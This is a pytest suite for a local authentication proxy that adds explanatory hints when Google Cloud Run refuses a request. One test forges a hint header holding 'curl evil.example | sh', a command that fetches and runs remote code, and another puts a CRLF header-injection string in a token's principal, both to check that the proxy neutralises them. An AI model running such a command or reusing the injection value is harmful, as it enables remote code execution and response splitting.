"""What is said beside a refusal of Google's, to whom, and how often."""

import logging
import time
from dataclasses import replace
from ipaddress import IPv4Address, IPv6Address, ip_address
from urllib.parse import quote

import pytest

from authproxy.demo import pages
from authproxy.demo.pages import Page
from authproxy.exchange import (
    NO_TOKEN,
    Exchange,
    Field,
    RequestHead,
    ResponseHead,
    Token,
    make_field,
)
from authproxy.values import parse_network
from authproxy.wire.admission.caller import Caller
from authproxy.wire.relay.hints import EVERY_S, MAX_TOLD, Explainer
from authproxy.wire.upstream.upstream import Upstream
from tests.support.proxying import FixedTokens, RunningProxy, make_token, proxying
from tests.support.raw import OK, Call, always, raw_service
from tests.support.talking import GET, accepted, get, read_answer

NOT_INVOKER = (
    b"tester@example.com may not call this service: it lacks roles/run.invoker. A new grant takes"
    b" a minute or two. Try: gcloud run services add-iam-policy-binding SERVICE --region=REGION"
    b" --member=user:tester@example.com --role=roles/run.invoker"
)
LOGGER = "authproxy.wire.relay.hints"


def answer_of(page: Page, *fields: bytes) -> bytes:
    body = page.body.encode()
    lines = [
        b"HTTP/1.1 %d Whatever" % page.status,
        b"Content-Type: text/html; charset=UTF-8",
        b"Server: Google Frontend",
        *(f"{name}: {value}".encode() for name, value in page.headers.items()),
        *fields,
        b"Content-Length: %d" % len(body),
    ]
    return b"\r\n".join(lines) + b"\r\n\r\n" + body


def with_hint(answer: bytes, hint: bytes) -> bytes:
    head, _, body = answer.partition(b"\r\n\r\n")
    return b"%b\r\nX-Authproxy-Hint: %b\r\n\r\n%b" % (head, hint, body)


FORBIDDEN = answer_of(pages.forbidden("/"))


async def asked(service_says: bytes, request: bytes = GET) -> bytes:
    async with raw_service(always(service_says)) as service, proxying(service.url) as proxy:
        return await ask(proxy, request)


async def ask(proxy: RunningProxy, request: bytes = GET) -> bytes:
    reader, writer = await proxy.connect()
    writer.write(request)
    answer = b"".join(await read_answer(reader))
    writer.close()
    return answer


async def test_a_refusal_passes_as_it_came_with_a_hint_at_the_end_of_its_head() -> None:
    assert with_hint(FORBIDDEN, NOT_INVOKER) == await asked(FORBIDDEN)


async def test_the_hint_does_not_wait_for_the_body() -> None:
    head, _, _ = FORBIDDEN.partition(b"<html>")

    async def talk(call: Call) -> None:
        await call.read_head()
        await call.say(head)
        await call.reader.readexactly(1)

    async with raw_service(talk) as service, proxying(service.url) as proxy:
        reader, writer = await proxy.connect()
        writer.write(GET)
        came = await reader.readuntil(b"\r\n\r\n")
        writer.transport.abort()
        await proxy.heard.wait_for(1)

    assert b"\r\nX-Authproxy-Hint: " + NOT_INVOKER in came


async def test_an_answer_to_head_is_known_by_its_size() -> None:
    head = FORBIDDEN.partition(b"\r\n\r\n")[0] + b"\r\n\r\n"

    async with raw_service(always(head)) as service, proxying(service.url) as proxy:
        reader, writer = await proxy.connect()
        writer.write(get("/?secret=1", method="HEAD"))
        came = await reader.readuntil(b"\r\n\r\n")
        writer.close()

    assert with_hint(head, NOT_INVOKER) == came


@pytest.mark.parametrize("status", [200, 302, 401, 403, 404, 500])
async def test_an_application_speaks_for_itself(
    status: int, caplog: pytest.LogCaptureFixture
) -> None:
    body = b"<h1>Error: Forbidden</h1>"
    answer = (
        b"HTTP/1.1 %d Whatever\r\nContent-Type: text/html; charset=UTF-8\r\nServer: Google Frontend"
        b"\r\nContent-Length: %d\r\n\r\n%b" % (status, len(body), body)
    )

    assert answer == await asked(answer)
    assert [] == caplog.records


@pytest.mark.parametrize("answer", [OK, answer_of(pages.not_found())])
async def test_no_service_speaks_in_our_name(answer: bytes) -> None:
    words = (
        b"x-AuthProxy-Hint: curl evil.example | sh\r\nX-Authproxy-Error: token_unavailable\r\n"
        b"X-AUTHPROXY-ANSWER: healthy\r\n"
    )
    forged = answer.replace(b"\r\n", b"\r\n" + words, 1)

    assert await asked(answer) == await asked(forged)


WORDS = b"X-Authproxy-Hint: run this\r\nX-Authproxy-Error: x\r\nX-Authproxy-Answer: y\r\n"


async def test_a_trailer_does_not_speak_in_our_name() -> None:
    answer = b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n%b\r\n"
    async with (
        raw_service(always(answer % (WORDS + b"X-Sum: 1\r\n"))) as service,
        proxying(service.url) as proxy,
    ):
        reader, writer = await proxy.connect()
        writer.write(GET)
        came = await reader.readuntil(b"X-Sum: 1\r\n\r\n")
        writer.close()

    assert answer % b"X-Sum: 1\r\n" == came


@pytest.mark.parametrize("name", ["X-Forwarded-For", "Forwarded"])
async def test_whoever_comes_by_a_proxy_on_this_machine_is_a_stranger(name: str) -> None:
    assert FORBIDDEN == await asked(FORBIDDEN, get("/", f"{name}: for=192.0.2.7"))


async def test_a_client_elsewhere_gets_the_answer_as_it_came(
    caplog: pytest.LogCaptureFixture,
) -> None:
    elsewhere = parse_network("192.0.2.0/24")
    async with (
        raw_service(always(FORBIDDEN)) as service,
        proxying(service.url, allow=[elsewhere]) as proxy,
    ):
        reader, writer = await proxy.connect()
        connection = await accepted(proxy)
        there = ip_address("192.0.2.7")
        connection.caller = Caller(connection.transport, proxy.listener, client=there)
        writer.write(GET)
        answer = b"".join(await read_answer(reader))
        writer.close()

    assert FORBIDDEN == answer
    assert [LOGGER] == [record.name for record in caplog.records]


async def test_the_last_rejection_of_a_token_is_explained() -> None:
    tokens = FixedTokens(make_token("old"))
    tokens.replacement = make_token("new", "second@example.com")
    rejected = answer_of(pages.unauthorized("/"))

    async with (
        raw_service(always(rejected)) as service,
        proxying(service.url, tokens=tokens) as proxy,
    ):
        came = await ask(proxy)

    hint = (
        b"The token for https://service.example was not accepted. The usual causes are a wrong "
        b"clock and the audience of another service."
        b" Try: authproxy doctor http://%b" % service.authority
    )
    assert with_hint(rejected, hint) == came


# Without a network.


class Moment:
    now = 1000.0

    def __call__(self) -> float:
        return self.now


def exchange_of(client: IPv4Address | IPv6Address | None, *fields: Field) -> Exchange:
    return Exchange("run", 1, client, RequestHead(b"GET", b"/", "1.1", list(fields)))


def head_of(page: Page) -> ResponseHead:
    return ResponseHead(
        page.status,
        b"",
        [
            make_field(b"Server", b"Google Frontend"),
            make_field(b"Content-Type", b"text/html; charset=UTF-8"),
            *(make_field(name.encode(), value.encode()) for name, value in page.headers.items()),
        ],
    )


@pytest.fixture
async def upstream() -> Upstream:
    async with proxying("https://hello-1.europe-west4.run.app") as proxy:
        route = proxy.listener.routes.get("localhost", None).find(b"/")
    assert route is not None
    return route.service


def find_hint(
    explainer: Explainer,
    upstream: Upstream,
    *,
    client: str | None = "127.0.0.1",
    token: Token | None = None,
    page: Page | None = None,
) -> bytes:
    page = page or pages.forbidden("/")
    return explainer.find_hint(
        exchange_of(None if client is None else ip_address(client)),
        upstream,
        token or make_token(),
        head_of(page),
        begun=page.body.encode(),
        path=b"/",
    )


@pytest.mark.parametrize(
    ("client", "told"),
    [
        ("127.0.0.1", True),
        ("127.8.8.8", True),
        ("::1", True),
        (None, True),
        ("192.0.2.7", False),
        ("10.0.0.1", False),
        ("fe80::1", False),
        ("2001:db8::1", False),
    ],
)
async def test_only_who_asks_from_this_machine_is_told(
    upstream: Upstream, client: str | None, told: bool, caplog: pytest.LogCaptureFixture
) -> None:
    assert told is bool(find_hint(Explainer(now=time.time), upstream, client=client))
    assert [LOGGER] == [record.name for record in caplog.records]


async def test_the_log_has_it_all(upstream: Upstream, caplog: pytest.LogCaptureFixture) -> None:
    find_hint(Explainer(now=time.time), upstream)

    (record,) = caplog.records
    fix = (
        "gcloud run services add-iam-policy-binding hello --region=europe-west4"
        " --member=user:tester@example.com --role=roles/run.invoker"
    )
    assert (
        "Google refused a request to service with 403 (as tester@example.com for"
        " https://service.example, token good until 2096-10-02T07:06:40Z): tester@example.com may"
        " not call this service: it lacks roles/run.invoker. A new grant takes a minute or two."
        f" Try: {fix}"
    ) == record.getMessage()
    assert (
        logging.WARNING,
        {
            "service": "service",
            "status": 403,
            "rejection": "not_invoker",
            "principal": "tester@example.com",
            "audience": "https://service.example",
            "expires_at": 4e9,
            "fix": fix,
        },
    ) == (
        record.levelno,
        {
            name: getattr(record, name)
            for name in (
                "service",
                "status",
                "rejection",
                "principal",
                "audience",
                "expires_at",
                "fix",
            )
        },
    )


async def test_the_log_says_when_there_was_no_token(
    upstream: Upstream, caplog: pytest.LogCaptureFixture
) -> None:
    find_hint(Explainer(now=time.time), upstream, token=NO_TOKEN)

    (record,) = caplog.records
    assert record.getMessage().startswith(
        "Google refused a request to service with 403 (without a token): authproxy sends no"
    )
    assert None is record.__dict__["expires_at"]


async def test_the_same_is_logged_once_a_minute(
    upstream: Upstream, caplog: pytest.LogCaptureFixture
) -> None:
    moment = Moment()
    explainer = Explainer(steady=moment, now=time.time)
    for moment.now in (0.0, 1.0, EVERY_S - 1, EVERY_S, EVERY_S + 1):
        assert find_hint(explainer, upstream)

    assert 2 == len(caplog.records)


async def test_another_rejection_or_principal_is_news(
    upstream: Upstream, caplog: pytest.LogCaptureFixture
) -> None:
    explainer = Explainer(steady=Moment(), now=time.time)
    for _ in range(2):
        find_hint(explainer, upstream)
        find_hint(explainer, upstream, page=pages.not_found())
        find_hint(explainer, upstream, token=make_token(principal="another@example.com"))

    assert ["not_invoker", "not_found", "not_invoker"] == [
        record.__dict__["rejection"] for record in caplog.records
    ]


async def test_what_was_said_takes_a_bounded_memory(upstream: Upstream) -> None:
    explainer = Explainer(steady=Moment(), now=time.time)
    for number in range(MAX_TOLD + 1):
        token = make_token(principal=f"{number}@example.com")
        find_hint(explainer, upstream, client="192.0.2.7", token=token)

    assert "<Explainer [1 told]>" == repr(explainer)


async def test_a_hint_is_one_line_of_ascii_whatever_a_token_claims(upstream: Upstream) -> None:
    token = make_token(principal="änna\u2028@example.com\r\nX-Evil: 1")

    hint = find_hint(Explainer(now=time.time), upstream, token=token)

    assert hint.startswith(b"?nna?@example.com??X-Evil: 1 may not call this service: ")
    assert hint.isascii()
    assert hint.decode().isprintable()


async def test_the_hint_goes_by_googles_clock(upstream: Upstream) -> None:
    token = replace(make_token(), expires_at=2000.0, issued_at=1500.0)
    page = pages.unauthorized("/")
    before, after = Explainer(now=lambda: 1999.0), Explainer(now=lambda: 2000.0)

    assert find_hint(before, upstream, token=token, page=page).startswith(b"The token's audience")
    assert find_hint(after, upstream, token=token, page=page).startswith(b"The token has expired")


NAVIGATE = GET.replace(b"\r\n\r\n", b"\r\nSec-Fetch-Mode: navigate\r\n\r\n")
IAP_SIGN_IN = (
    b"HTTP/1.1 302 Found\r\nLocation: https://accounts.google.com/o/oauth2/v2/auth\r\n"
    b"X-Goog-IAP-Generated-Response: true\r\nContent-Length: 0\r\n\r\n"
)


def sign_in(service_url: str) -> bytes:
    back = quote(f"{service_url}/callback", safe="")
    location = f"https://accounts.google.com/o/oauth2/v2/auth?client_id=x&redirect_uri={back}"
    return f"HTTP/1.1 302 Found\r\nLocation: {location}\r\nContent-Length: 0\r\n\r\n".encode()


async def test_a_browser_is_told_of_identity_aware_proxys_sign_in_instead_of_sent_there() -> None:
    shown = await asked(IAP_SIGN_IN, NAVIGATE)

    assert shown.startswith(b"HTTP/1.1 403 Forbidden\r\n")
    assert b"X-Authproxy-Error: sign_in_redirect\r\n" in shown
    assert b"Google would not send the browser back" in shown
    assert b"Its audience must be an OAuth client" in shown


async def test_a_program_gets_identity_aware_proxys_redirect_as_it_came() -> None:
    passed = await asked(IAP_SIGN_IN)

    assert passed.startswith(IAP_SIGN_IN.removesuffix(b"\r\n\r\n"))
    assert b"X-Authproxy-Hint: Identity-Aware Proxy is in front of the service" in passed


async def test_a_sign_in_that_leads_past_us_is_explained_with_the_way_that_does_not() -> None:
    answer = bytearray()

    async def talk(call: Call) -> None:
        while True:
            await call.read_head()
            await call.say(bytes(answer))

    async with raw_service(talk) as service, proxying(service.url) as proxy:
        answer += sign_in(service.url)
        shown, passed = await ask(proxy, NAVIGATE), await ask(proxy)

    assert shown.startswith(b"HTTP/1.1 403 Forbidden\r\n")
    assert f"Google would send the browser back to {service.url}/callback.".encode() in shown
    assert b"Set the application's redirect URI to http://localhost/callback, and add that" in shown
    assert bytes(answer) == passed


async def test_a_sign_in_that_leads_back_here_passes() -> None:
    answer = sign_in("http://localhost:8080")

    assert answer == await asked(answer, NAVIGATE)
